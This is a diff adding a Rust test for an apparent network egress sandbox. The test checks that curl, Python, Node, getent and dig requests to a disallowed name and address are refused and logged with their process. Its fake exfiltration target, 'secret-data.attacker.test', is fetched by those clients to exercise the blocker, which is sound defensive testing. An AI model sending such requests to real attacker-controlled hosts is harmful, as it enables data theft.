@@ -619,3 +619,90 @@ fn search_list_expansions_are_quiet_and_musl_resolves() {
         "{r:?}"
     );
 }
+
+/// The same real clients against a name no rule allows and against an
+/// address no rule allows: each attempt is reported, and names its process.
+/// Nothing reaches the upstream or the refused address.
+#[test]
+fn real_clients_refused_are_reported_with_their_process() {
+    require_root();
+    let ns = Netns::new("clientsbad").unwrap();
+    let upstream = zone(&ns);
+    let bad = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
+    let tmp = TempDir::new("clientsbad").unwrap();
+    let clients = |url: &str, host: &str| {
+        format!(
+            "curl -s -m 2 {url}; \
+             python3 -c \"import urllib.request
+try: urllib.request.urlopen('{url}', timeout=2)
+except Exception: pass\"; \
+             node -e \"fetch('{url}', {{signal: AbortSignal.timeout(2000)}}).catch(() => {{}})\"; \
+             getent ahosts {host} > /dev/null; \
+             dig +short +time=2 +tries=1 {host} > /dev/null; echo done"
+        )
+    };
+    // A name no rule allows: one DNS event per query, each with its asker.
+    let name = "secret-data.attacker.test";
+    let r = run(
+        &ns,
+        &with_resolv_conf(
+            &tmp,
+            "203.0.113.1",
+            &clients(&format!("http://{name}:443/"), name),
+        ),
+    );
+    assert!(r.stdout.contains("done"), "{r:?}");
+    assert!(!r.events.is_empty(), "{r:?}");
+    let mut askers = std::collections::BTreeSet::new();
+    for e in &r.events {
+        assert_eq!(e["hook"], "dns", "only the lookups are refused: {e}");
+        assert_eq!(e["qname"], name, "{e}");
+        assert_eq!(e["reason"], "dns_name_not_allowed", "{e}");
+        assert!(e["pid"].as_u64().is_some_and(|p| p > 0), "{e}");
+        askers.insert(e["comm"].as_str().unwrap_or("").to_string());
+    }
+    for who in ["curl", "python3", "getent"] {
+        assert!(
+            askers.iter().any(|a| a.starts_with(who)),
+            "{who}: {askers:?}"
+        );
+    }
+    // node asks from its libuv threads, dig from its isc threads.
+    assert!(
+        askers.iter().any(|a| a == "node" || a.starts_with("libuv")),
+        "{askers:?}"
+    );
+    assert!(
+        askers.iter().any(|a| a == "dig" || a.starts_with("isc-")),
+        "{askers:?}"
+    );
+    assert!(
+        !upstream.asked().iter().any(|n| n.contains("attacker")),
+        "{:?}",
+        upstream.asked()
+    );
+    // An address no rule allows: one refused connect per client.
+    let r = run(
+        &ns,
+        &with_resolv_conf(
+            &tmp,
+            "203.0.113.1",
+            &clients("http://203.0.113.9:443/", "api.model.test"),
+        ),
+    );
+    assert!(r.stdout.contains("done"), "{r:?}");
+    assert_eq!(bad.count(), 0, "a refused connect arrived");
+    let mut by: Vec<&str> = r
+        .events
+        .iter()
+        .map(|e| {
+            assert_eq!(e["daddr"], "203.0.113.9", "{e}");
+            assert_eq!(e["hook"], "connect4", "{e}");
+            assert_eq!(e["reason"], "destination_not_allowed", "{e}");
+            e["comm"].as_str().unwrap_or("")
+        })
+        .collect();
+    by.sort();
+    by.dedup();
+    assert_eq!(by, ["curl", "node", "python3"], "{:?}", r.events);
+}
